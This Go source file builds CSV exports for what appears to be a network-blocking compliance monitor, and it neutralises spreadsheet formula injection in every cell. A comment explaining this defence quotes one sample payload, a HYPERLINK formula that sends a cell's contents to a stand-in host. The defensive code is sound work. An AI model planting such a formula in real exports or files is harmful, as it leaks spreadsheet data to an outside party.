package report

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/pantau-dev/pantau/collector/orders"
	"github.com/pantau-dev/pantau/collector/timeline"
)

// writeCSV answers rows (the first is the header) as a CSV download named name.csv, each
// cell through SafeCell.
func writeCSV(w http.ResponseWriter, name string, rows [][]string) {
	csvHeaders(w, name)
	_, _ = w.Write(csvBytes(rows))
}

// csvHeaders sets the headers of a CSV download named name.csv.
func csvHeaders(w http.ResponseWriter, name string) {
	w.Header().Set("Content-Type", "text/csv; charset=utf-8")
	w.Header().Set("Content-Disposition", `attachment; filename="`+strings.ReplaceAll(name, `"`, "")+`.csv"`)
}

// csvBytes encodes rows, each cell through SafeCell.
func csvBytes(rows [][]string) []byte {
	var buf bytes.Buffer
	cw := csv.NewWriter(&buf)
	for _, row := range rows {
		_ = cw.Write(SafeRow(row))
	}
	cw.Flush()
	return buf.Bytes()
}

// SafeCell neutralises a CSV cell that a spreadsheet would run as a formula (CSV or
// formula injection, OWASP): a cell that starts with '=', '+', '-', '@', a tab, a
// carriage return, a line feed or NUL gets a leading single quote, which spreadsheets
// take as "text follows" and do not show. Stored text comes from probes and order
// files, so a reason or an organisation name such as `=HYPERLINK("http://x/?"&A1)` must
// stay text in the newsroom's spreadsheet.
//
// A number stays a number: "-5" and "-0.25" (an optional minus, digits, an optional
// fraction) are left as they are, since a minus sign followed only by digits cannot be a
// formula. "-1+2" is not such a number and is neutralised. A reader that wants the
// original text strips a leading quote that precedes one of those characters.
func SafeCell(s string) string {
	if s == "" || isNumber(s) {
		return s
	}
	switch s[0] {
	case '=', '+', '-', '@', '\t', '\r', '\n', 0:
		return "'" + s
	}
	return s
}

// SafeRow passes every cell of row through SafeCell, in place, and returns row.
func SafeRow(row []string) []string {
	for i, c := range row {
		row[i] = SafeCell(c)
	}
	return row
}

// isNumber reports whether s is -?[0-9]+(\.[0-9]+)?.
func isNumber(s string) bool {
	s = strings.TrimPrefix(s, "-")
	whole, frac, dot := strings.Cut(s, ".")
	digits := func(t string) bool {
		for i := 0; i < len(t); i++ {
			if t[i] < '0' || t[i] > '9' {
				return false
			}
		}
		return t != ""
	}
	return digits(whole) && (!dot || digits(frac))
}

func ts(t time.Time) string {
	if t.IsZero() {
		return ""
	}
	return t.UTC().Format(time.RFC3339Nano)
}

func itoa(n int) string { return strconv.Itoa(n) }

func ftoa(f float64) string { return strconv.FormatFloat(f, 'f', -1, 64) }

func optSeconds(f *float64) string {
	if f == nil {
		return ""
	}
	return ftoa(*f)
}

// timelineCSV has one row per period and per gap, in time order within each timeline.
func timelineCSV(tls []timeline.Timeline) [][]string {
	rows := [][]string{{"domain", "network", "probe", "kind", "state", "method", "since", "confirmed", "first_seen",
		"last_seen", "until", "measurements", "disagreeing", "probes", "gap_reason"}}
	for _, tl := range tls {
		var body [][]string
		for _, p := range tl.Periods {
			body = append(body, []string{tl.Domain, tl.Network, tl.Probe, "period", string(p.State), p.Method, ts(p.Since),
				ts(p.Confirmed), ts(p.FirstSeen), ts(p.LastSeen), ts(p.Until), itoa(p.Measurements), itoa(p.Disagreeing), itoa(p.Probes), ""})
		}
		for _, g := range tl.Gaps {
			body = append(body, []string{tl.Domain, tl.Network, tl.Probe, "gap", "", "", ts(g.From), "", "", "", ts(g.To), "", "", "", g.Reason})
		}
		slices.SortStableFunc(body, func(a, b []string) int { return strings.Compare(a[6], b[6]) })
		rows = append(rows, body...)
	}
	return rows
}

func transitionsCSV(trs []timeline.Transition) [][]string {
	rows := [][]string{{"domain", "network", "probe", "from", "to", "method", "at", "confirmed"}}
	for _, t := range trs {
		rows = append(rows, []string{t.Domain, t.Network, t.Probe, string(t.From), string(t.To), t.Method, ts(t.At), ts(t.Confirmed)})
	}
	return rows
}

func ordersCSV(list []orders.Order) [][]string {
	rows := [][]string{{"id", "title", "authority", "reference", "expect", "effective", "grace_s", "domains", "networks", "supersedes"}}
	for _, o := range list {
		rows = append(rows, []string{o.ID, o.Title, o.Authority, o.Reference, string(o.Expect), ts(o.Effective),
			ftoa(o.Grace.Seconds()), strings.Join(o.Domains, " "), strings.Join(o.Networks, "; "), o.Supersedes})
	}
	return rows
}

// complianceCSV has one row per network and domain, with the network's figures repeated.
func complianceCSV(r orders.Report) [][]string {
	rows := [][]string{{"order", "at", "order_status", "network", "network_status", "network_time_to_effect_s",
		"network_share", "domain", "status", "current", "effect", "time_to_effect_s", "share", "consistent",
		"measurements", "undecided", "counter_total", "gaps", "as_of", "late_by_s", "late", "reason", "reason_text",
		"zone", "at_local", "effective_local", "due_local", "effect_local", "as_of_local"}}
	asOf, local := "now", r.Local
	if r.AsOf != nil {
		asOf = ts(*r.AsOf)
	}
	if local == nil { // a report not made by orders.Comply
		local = &orders.LocalTimes{}
	}
	asOfLocal := local.AsOf
	if r.AsOf == nil {
		asOfLocal = "now"
	}
	for _, n := range r.Networks {
		for _, d := range n.Domains {
			effect := ""
			if d.Effect != nil {
				effect = ts(*d.Effect)
			}
			rows = append(rows, []string{r.Order.ID, ts(r.At), string(r.Status), n.Network, string(n.Status),
				optSeconds(n.TimeToEffectS), ftoa(n.Share), d.Domain, string(d.Status), string(d.Current), effect,
				optSeconds(d.TimeToEffectS), ftoa(d.Share), itoa(d.Consistent), itoa(d.Measurements), itoa(d.Undecided),
				itoa(d.CounterTotal), itoa(d.Gaps), asOf, optSeconds(d.LateByS), d.Late, string(d.Reason), d.ReasonText,
				local.Zone, local.At, local.Effective, local.Due, d.EffectLocal, asOfLocal})
		}
	}
	return rows
}

// evidenceCSV has one row per measurement of the bundle, the bundle's fields repeated on
// each row (a bundle without measurements is one row with the item columns empty). The
// raw column holds the measurement's JSON exactly as stored, so sha256 can be checked
// from the CSV as from the JSON.
func evidenceCSV(b Bundle) [][]string {
	rows := [][]string{{"domain", "network", "at", "state", "since", "generated_at", "bundle_sha256", "missing",
		"id", "probe", "probe_network", "country", "asn", "source_asn", "source_org", "received_at", "started_at",
		"status", "method", "sha256", "raw"}}
	since := ""
	if b.Since != nil {
		since = ts(*b.Since)
	}
	head := []string{b.Domain, b.Network, ts(b.At), b.State, since, ts(b.GeneratedAt), b.SHA256, itoa(b.Missing)}
	if len(b.Items) == 0 {
		return append(rows, append(head, make([]string, 13)...))
	}
	for _, it := range b.Items {
		rows = append(rows, append(slices.Clone(head), it.ID, it.Probe.Probe, it.Probe.Network, it.Probe.Country,
			strconv.FormatUint(uint64(it.Probe.ASN), 10), strconv.FormatUint(uint64(it.Geo.ASN), 10), it.Geo.Org,
			ts(it.ReceivedAt), ts(it.StartedAt), it.Status, it.Method, it.SHA256, string(it.Raw)))
	}
	return rows
}
